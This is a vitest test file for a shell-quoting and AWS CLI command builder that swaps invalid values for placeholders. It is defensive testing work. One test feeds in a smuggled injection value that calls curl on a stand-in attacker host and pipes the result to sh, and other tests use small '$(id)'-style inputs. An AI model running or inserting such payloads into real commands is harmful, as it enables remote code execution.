// The command builder: quoting for POSIX shells, and placeholders with rejections instead of bad values.
import { describe, expect, it } from 'vitest';
import { aws, file, literal, placeholder, runnable, shellQuote, value } from './shell';

describe('shellQuote', () => {
  it('leaves plain tokens bare and single-quotes everything else', () => {
    expect(shellQuote('us-east-1')).toBe('us-east-1');
    expect(shellQuote('arn:aws:kms:eu-west-1:210987654321:key/0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58')).toBe(
      'arn:aws:kms:eu-west-1:210987654321:key/0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58',
    );
    expect(shellQuote('Customer managed key')).toBe("'Customer managed key'");
    expect(shellQuote('{"a":"b"}')).toBe(`'{"a":"b"}'`);
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote('')).toBe("''");
    for (const s of ['$(id)', '`id`', 'a;b', 'a|b', 'a&b', 'a>b', '~root', '#x', '*', 'a?', '[a]', '!x', 'a\\b']) expect(shellQuote(s)).toMatch(/^'.*'$/);
  });

  it('refuses control characters: they cannot be quoted onto one line', () => {
    expect(() => shellQuote('a\nb')).toThrow();
    expect(() => shellQuote('a\u2028b')).toThrow();
    expect(() => literal('a\rb')).toThrow();
  });
});

describe('aws()', () => {
  it('builds one invocation from typed arguments', () => {
    const c = aws(
      'backup',
      'put-backup-vault-access-policy',
      ['--backup-vault-name', value('vaultName', 'central-backup-vault', { input: 'facts', fact: 'destinationVaultName' })],
      ['--policy', file('vault-policy.json')],
      ['--region', value('region', 'eu-central-1')],
    );
    expect(c).toEqual({
      text: 'aws backup put-backup-vault-access-policy --backup-vault-name central-backup-vault --policy file://vault-policy.json --region eu-central-1',
      rejected: [],
      missing: [],
      ok: true,
    });
  });

  it('never writes a value that fails its format: the placeholder stands there, and the rejection says which and why', () => {
    const payload = "central-backup-vault;curl$IFS-s$IFS'attacker.io/p'|sh;#";
    const origin = { input: 'copyJob' as const, fact: 'destinationVaultName' as const, field: 'DestinationBackupVaultArn' };
    const c = aws('backup', 'get-backup-vault-access-policy', ['--backup-vault-name', value('vaultName', payload, origin)]);
    expect(c.text).toBe('aws backup get-backup-vault-access-policy --backup-vault-name VAULT_NAME');
    expect(c.ok).toBe(false);
    expect(c.rejected).toEqual([{ kind: 'vaultName', reason: 'shell-character', origin, placeholder: 'VAULT_NAME' }]);
  });

  it('shows a placeholder for a value not given, and says it is missing', () => {
    const c = aws('kms', 'describe-key', ['--key-id', value('kmsKeyRef', undefined, { input: 'facts', fact: 'sourceKeyArn' })]);
    expect(c.text).toBe('aws kms describe-key --key-id KEY_ARN');
    expect(c.missing).toEqual([{ kind: 'kmsKeyRef', placeholder: 'KEY_ARN', origin: { input: 'facts', fact: 'sourceKeyArn' } }]);
    expect(c.ok).toBe(false);
  });

  it('quotes engine literals and leaves out options that are not there', () => {
    const c = aws('iam', 'update-assume-role-policy', ['--role-name', value('roleName', 'BackupRole')], ['--policy-document', literal('{"Version":"2012-10-17"}')], undefined, false, '');
    expect(c.text).toBe(`aws iam update-assume-role-policy --role-name BackupRole --policy-document '{"Version":"2012-10-17"}'`);
    expect(aws('backup', 'describe-copy-job', ['--copy-job-id', placeholder('COPY_JOB_ID')]).text).toBe('aws backup describe-copy-job --copy-job-id COPY_JOB_ID');
  });

  it('refuses what only a bug could produce: odd names, flags, file names, placeholders', () => {
    expect(() => aws('kms;id', 'describe-key')).toThrow();
    expect(() => aws('kms', 'describe-key', ['-k'])).toThrow();
    expect(() => file('../key-policy.json')).toThrow();
    expect(() => file('key policy.json')).toThrow();
    expect(() => file('$(id).json')).toThrow();
    expect(() => placeholder('vault name')).toThrow();
  });

  it('keeps only the commands that can run as they are', () => {
    const good = aws('kms', 'describe-key', ['--key-id', value('kmsKeyRef', 'alias/backup')]);
    const bad = aws('kms', 'describe-key', ['--key-id', value('kmsKeyRef', 'alias/backup;id')]);
    const r = runnable([good, bad]);
    expect(r.lines).toEqual(['aws kms describe-key --key-id alias/backup']);
    expect(r.rejected.map((x) => x.reason)).toEqual(['shell-character']);
  });
});
